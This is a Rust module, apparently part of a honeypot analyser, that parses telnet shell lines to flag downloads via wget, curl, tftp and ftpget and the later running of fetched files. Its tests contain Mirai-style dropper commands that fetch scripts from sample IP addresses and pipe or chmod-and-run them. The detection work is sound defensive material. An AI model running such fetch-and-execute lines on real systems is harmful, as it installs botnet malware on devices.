//! Shell command lines typed into a remote session (telnet after login): which ones fetch a
//! file and which ones run what was fetched.
//!
//! [`analyse`] splits a line into simple commands at `;`, `&&`, `||`, `&`, `|` and newlines,
//! splits each into words at blanks (quotes removed, nothing expanded), skips the wrappers
//! `busybox`, `sudo`, `nohup`, `env`, `exec`, `timeout N`, and recognises:
//!
//! - **Downloads** ([`Download`]): `wget URL` (`-O FILE`, `-O-`/`-O -` for standard output),
//!   `curl URL` (`-o FILE`, `-O` for the remote name, else standard output), `tftp`
//!   (`-g -r FILE [-l LOCAL] HOST`, or `HOST -c get FILE [LOCAL]`), `ftpget HOST LOCAL
//!   [REMOTE]`. The URL is kept as typed (`tftp://HOST/FILE`, `ftp://HOST/REMOTE` for the
//!   last two); the local file is the `-O`/`-o`/`-l`/LOCAL argument or the URL's last path
//!   segment.
//! - **Execution** of a download: a download piped into a shell (`wget -O- URL | sh`), or a
//!   later command that names the downloaded file (by its last path segment) as `sh FILE`,
//!   `./FILE`, `/path/FILE`, `chmod +x FILE`/`chmod 777 FILE` (any mode: making it executable
//!   is the dropper's step before running it), `source FILE`, `. FILE`. `chmod` with `*`
//!   counts for every file downloaded so far.
//!
//! It reads text, never runs or expands anything, and keeps at most [`MAX_DOWNLOADS`]
//! downloads per line.

use serde::Serialize;

/// Downloads kept per command line (later ones are ignored).
pub const MAX_DOWNLOADS: usize = 4;
/// Words looked at per simple command.
const MAX_WORDS: usize = 64;

/// A file fetched by a command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Download {
    /// The program: `wget`, `curl`, `tftp` or `ftpget`.
    pub tool: &'static str,
    /// What it fetched, as typed (`tftp://HOST/FILE` and `ftp://HOST/FILE` for TFTP and FTP).
    pub url: String,
    /// The local file it wrote, when it wrote one (`None`: standard output).
    pub file: Option<String>,
    /// True when the same line or a later one of the session runs it (see the module docs).
    pub executed: bool,
}

/// What one command line does.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Analysis {
    /// Files it fetches, in order (at most [`MAX_DOWNLOADS`]).
    pub downloads: Vec<Download>,
    /// Files it runs or makes executable (last path segments; `*` for a `chmod` of everything).
    pub runs: Vec<String>,
}

impl Analysis {
    /// True when this line runs `file` (a last path segment).
    pub fn runs_file(&self, file: &str) -> bool {
        self.runs.iter().any(|r| r == "*" || r == file)
    }
}

/// The shells a download can be piped into.
const SHELLS: [&str; 5] = ["sh", "bash", "ash", "dash", "zsh"];

/// Splits a line into pipelines of simple commands, each a list of words.
fn pipelines(line: &str) -> Vec<Vec<Vec<String>>> {
    let mut out: Vec<Vec<Vec<String>>> = vec![vec![Vec::new()]];
    let mut word = String::new();
    let mut quote: Option<char> = None;
    let mut chars = line.chars().peekable();
    let flush = |word: &mut String, out: &mut Vec<Vec<Vec<String>>>| {
        if !word.is_empty() {
            if let Some(cmd) = out.last_mut().and_then(|p| p.last_mut()) {
                if cmd.len() < MAX_WORDS {
                    cmd.push(std::mem::take(word));
                }
            }
            word.clear();
        }
    };
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), c) => word.push(c),
            (None, '\'' | '"') => quote = Some(c),
            (None, '|') if chars.peek() == Some(&'|') => {
                chars.next();
                flush(&mut word, &mut out);
                out.push(vec![Vec::new()]);
            }
            (None, '|') => {
                flush(&mut word, &mut out);
                if let Some(p) = out.last_mut() {
                    p.push(Vec::new());
                }
            }
            (None, ';' | '&' | '\n' | '\r') => {
                flush(&mut word, &mut out);
                out.push(vec![Vec::new()]);
            }
            (None, c) if c.is_whitespace() => flush(&mut word, &mut out),
            (None, c) => word.push(c),
        }
    }
    flush(&mut word, &mut out);
    out
}

/// The last path segment of a path or URL (query and fragment removed).
fn last_segment(s: &str) -> &str {
    let s = s.split(['?', '#']).next().unwrap_or_default();
    s.rsplit('/').next().unwrap_or_default()
}

/// The words after wrappers (`busybox`, `sudo`, …), the program's basename first.
fn unwrap_words(words: &[String]) -> &[String] {
    let mut rest = words;
    loop {
        let Some((first, tail)) = rest.split_first() else {
            return rest;
        };
        match last_segment(first) {
            "busybox" | "sudo" | "nohup" | "exec" | "env" => rest = tail,
            "timeout" => rest = tail.get(1..).unwrap_or_default(),
            _ => return rest,
        }
    }
}

/// Options and operands of a command, parsed the way `getopt` does: grouped short options
/// (`-qO-`), a value either attached or in the next word, `--` ending the options.
#[derive(Default)]
struct Opts<'a> {
    /// Short options with their values (for the letters that take one).
    short: Vec<(char, Option<&'a str>)>,
    /// Long options (`--output`) with their values (for the names that take one).
    long: Vec<(&'a str, Option<&'a str>)>,
    /// Words that are not options.
    operands: Vec<&'a str>,
}

impl<'a> Opts<'a> {
    fn parse(args: &'a [String], short_values: &str, long_values: &[&str]) -> Opts<'a> {
        let mut o = Opts::default();
        let mut it = args.iter().map(String::as_str);
        while let Some(a) = it.next() {
            if a == "--" {
                o.operands.extend(it.by_ref());
            } else if let Some(name) = a.strip_prefix("--") {
                let (name, value) = match name.split_once('=') {
                    Some((n, v)) => (n, Some(v)),
                    None if long_values.contains(&name) => (name, it.next()),
                    None => (name, None),
                };
                o.long.push((name, value));
            } else if let Some(group) = a.strip_prefix('-').filter(|g| !g.is_empty()) {
                for (i, c) in group.char_indices() {
                    if short_values.contains(c) {
                        let rest = group.get(i + c.len_utf8()..).unwrap_or_default();
                        let value = if rest.is_empty() {
                            it.next()
                        } else {
                            Some(rest)
                        };
                        o.short.push((c, value));
                        break;
                    }
                    o.short.push((c, None));
                }
            } else {
                o.operands.push(a);
            }
        }
        o
    }

    /// The value of short option `c` or long option `long`, the last one given.
    fn value(&self, c: char, long: &str) -> Option<&'a str> {
        let s = self
            .short
            .iter()
            .rev()
            .find(|(k, _)| *k == c)
            .and_then(|(_, v)| *v);
        s.or_else(|| {
            self.long
                .iter()
                .rev()
                .find(|(k, _)| *k == long)
                .and_then(|(_, v)| *v)
        })
    }

    fn flag(&self, c: char, long: &str) -> bool {
        self.short.iter().any(|(k, _)| *k == c) || self.long.iter().any(|(k, _)| *k == long)
    }
}

fn to_stdout(file: Option<&str>) -> bool {
    matches!(file, Some("-" | "/dev/stdout"))
}

fn wget(args: &[String]) -> Option<Download> {
    let o = Opts::parse(
        args,
        "OoPUTteaiwQBDXIlAR",
        &["output-document", "user-agent"],
    );
    let url = *o.operands.first()?;
    let file = o.value('O', "output-document");
    Some(Download {
        tool: "wget",
        url: url.to_string(),
        file: match file {
            f if to_stdout(f) => None,
            Some(f) => Some(f.to_string()),
            None => Some(last_segment(url).to_string()).filter(|f| !f.is_empty()),
        },
        executed: false,
    })
}

fn curl(args: &[String]) -> Option<Download> {
    let o = Opts::parse(
        args,
        "oudAHXmexTrEKbcFwyYzCQ",
        &[
            "output",
            "user",
            "data",
            "header",
            "request",
            "user-agent",
            "url",
        ],
    );
    let url = o
        .value('\0', "url")
        .or_else(|| o.operands.first().copied())?;
    let file = o.value('o', "output");
    Some(Download {
        tool: "curl",
        url: url.to_string(),
        file: match file {
            f if to_stdout(f) => None,
            Some(f) => Some(f.to_string()),
            None if o.flag('O', "remote-name") => Some(last_segment(url).to_string()),
            None => None,
        },
        executed: false,
    })
}

fn tftp(args: &[String]) -> Option<Download> {
    // BusyBox: tftp -g -r REMOTE [-l LOCAL] HOST [PORT]; classic: tftp HOST -c get REMOTE [LOCAL].
    let o = Opts::parse(args, "lrbm", &[]);
    let (host, remote, local) = if let Some(r) = o.value('r', "") {
        (*o.operands.first()?, r, o.value('l', ""))
    } else {
        let get = o.operands.iter().position(|w| *w == "get")?;
        let host = *o.operands.first()?;
        let remote = *o.operands.get(get + 1)?;
        (host, remote, o.operands.get(get + 2).copied())
    };
    Some(Download {
        tool: "tftp",
        url: format!("tftp://{host}/{remote}"),
        file: Some(local.unwrap_or_else(|| last_segment(remote)).to_string()),
        executed: false,
    })
}

fn ftpget(args: &[String]) -> Option<Download> {
    let o = Opts::parse(args, "upP", &["username", "password", "port"]);
    let host = *o.operands.first()?;
    let local = *o.operands.get(1)?;
    let remote = o.operands.get(2).copied().unwrap_or(local);
    Some(Download {
        tool: "ftpget",
        url: format!("ftp://{host}/{remote}"),
        file: Some(local.to_string()),
        executed: false,
    })
}

/// The download a simple command performs, if it is one.
fn download(words: &[String]) -> Option<Download> {
    let (prog, args) = unwrap_words(words).split_first()?;
    match last_segment(prog) {
        "wget" => wget(args),
        "curl" => curl(args),
        "tftp" => tftp(args),
        "ftpget" => ftpget(args),
        _ => None,
    }
}

/// The file a simple command runs or makes executable, if any.
fn runs(words: &[String]) -> Vec<String> {
    let Some((prog, args)) = unwrap_words(words).split_first() else {
        return Vec::new();
    };
    let name = last_segment(prog);
    match name {
        "chmod" => Opts::parse(args, "", &[])
            .operands
            .into_iter()
            .skip(1)
            .map(|f| last_segment(f).to_string())
            .collect(),
        "source" | "." => args
            .first()
            .map(|f| last_segment(f).to_string())
            .into_iter()
            .collect(),
        n if SHELLS.contains(&n) => Opts::parse(args, "c", &[])
            .operands
            .into_iter()
            .next()
            .map(|f| last_segment(f).to_string())
            .into_iter()
            .collect(),
        // `./x`, `/tmp/x`: a program started by path.
        _ if prog.contains('/') && !name.is_empty() => vec![name.to_string()],
        _ => Vec::new(),
    }
}

/// What a command line fetches and runs.
pub fn analyse(line: &str) -> Analysis {
    let mut a = Analysis::default();
    for pipeline in pipelines(line) {
        let mut piped: Option<usize> = None;
        for (i, cmd) in pipeline.iter().enumerate() {
            if let (Some(d), Some(prev)) = (piped, i.checked_sub(1)) {
                let into_shell = unwrap_words(cmd)
                    .first()
                    .is_some_and(|p| SHELLS.contains(&last_segment(p)));
                if into_shell && prev + 1 == i {
                    if let Some(dl) = a.downloads.get_mut(d) {
                        dl.executed = true;
                    }
                }
            }
            piped = None;
            if let Some(d) = download(cmd) {
                if a.downloads.len() < MAX_DOWNLOADS {
                    piped = Some(a.downloads.len());
                    a.downloads.push(d);
                }
            }
            a.runs.extend(runs(cmd));
        }
    }
    // A file fetched and run on the same line.
    let runs = std::mem::take(&mut a.runs);
    for d in &mut a.downloads {
        if let Some(f) = d.file.as_deref().map(last_segment) {
            d.executed |= runs.iter().any(|r| r == "*" || r == f);
        }
    }
    a.runs = runs;
    a
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(line: &str) -> Download {
        let a = analyse(line);
        assert_eq!(a.downloads.len(), 1, "{line}: {a:?}");
        a.downloads.into_iter().next().unwrap()
    }

    #[test]
    fn wget_into_tmp_is_a_download_not_yet_run() {
        let d = one("cd /tmp; wget http://198.18.0.66/bins/mirai.arm7");
        assert_eq!(d.tool, "wget");
        assert_eq!(d.url, "http://198.18.0.66/bins/mirai.arm7");
        assert_eq!(d.file.as_deref(), Some("mirai.arm7"));
        assert!(!d.executed);
    }

    #[test]
    fn wget_then_chmod_and_run_on_one_line() {
        let d = one("cd /tmp && busybox wget http://1.2.3.4/bot.sh -O b; chmod +x b; ./b");
        assert_eq!(d.url, "http://1.2.3.4/bot.sh");
        assert_eq!(d.file.as_deref(), Some("b"));
        assert!(d.executed);
    }

    #[test]
    fn piping_into_a_shell_executes() {
        for line in [
            "wget -qO- http://x/bot.sh | sh",
            "wget -O - http://x/bot.sh|sh",
            "curl -s http://x/bot.sh | /bin/busybox sh",
        ] {
            let d = one(line);
            assert!(d.executed, "{line}");
            assert_eq!(d.url, "http://x/bot.sh", "{line}");
        }
        // Piped elsewhere first: not run by the shell.
        assert!(!one("curl http://x/a | grep b").executed);
    }

    #[test]
    fn tftp_and_ftpget_variants() {
        let d = one("tftp -g -r tftp1.sh 10.0.0.9; sh tftp1.sh");
        assert_eq!(d.url, "tftp://10.0.0.9/tftp1.sh");
        assert!(d.executed);
        let d = one("tftp 10.0.0.9 -c get t2.sh");
        assert_eq!(d.url, "tftp://10.0.0.9/t2.sh");
        assert!(!d.executed);
        let d = one("ftpget -v -u anonymous -p anonymous -P 21 10.0.0.9 f1.sh f1.sh; sh f1.sh");
        assert_eq!(d.url, "ftp://10.0.0.9/f1.sh");
        assert!(d.executed);
    }

    #[test]
    fn mirai_loader_line_keeps_the_first_downloads() {
        let line = "cd /tmp || cd /var/run; wget http://1.2.3.4/bins.sh; chmod 777 bins.sh; \
                    sh bins.sh; tftp 1.2.3.4 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; \
                    tftp -r tftp2.sh -g 1.2.3.4; chmod 777 *; ftpget -v 1.2.3.4 f.sh f.sh; \
                    curl -O http://1.2.3.4/c.sh";
        let a = analyse(line);
        assert_eq!(a.downloads.len(), MAX_DOWNLOADS);
        assert!(a.downloads.iter().all(|d| d.executed), "{a:?}");
    }

    #[test]
    fn ordinary_commands_are_not_downloads() {
        for line in [
            "ls -la /tmp",
            "cat /proc/cpuinfo",
            "echo wget",
            "ps | grep sh",
            "",
        ] {
            assert!(analyse(line).downloads.is_empty(), "{line}");
        }
        assert!(analyse("./run.sh").runs_file("run.sh"));
        assert!(analyse("chmod 777 *").runs_file("anything"));
    }

    #[test]
    fn noise_never_panics() {
        let mut seed = 11u32;
        for _ in 0..2000 {
            let mut s = String::new();
            for _ in 0..40 {
                seed = seed.wrapping_mul(1_103_515_245).wrapping_add(12345);
                s.push(b"wgetcurlftp -O|;&'\"/ shx.:"[(seed >> 16) as usize % 26] as char);
            }
            let _ = analyse(&s);
        }
    }
}
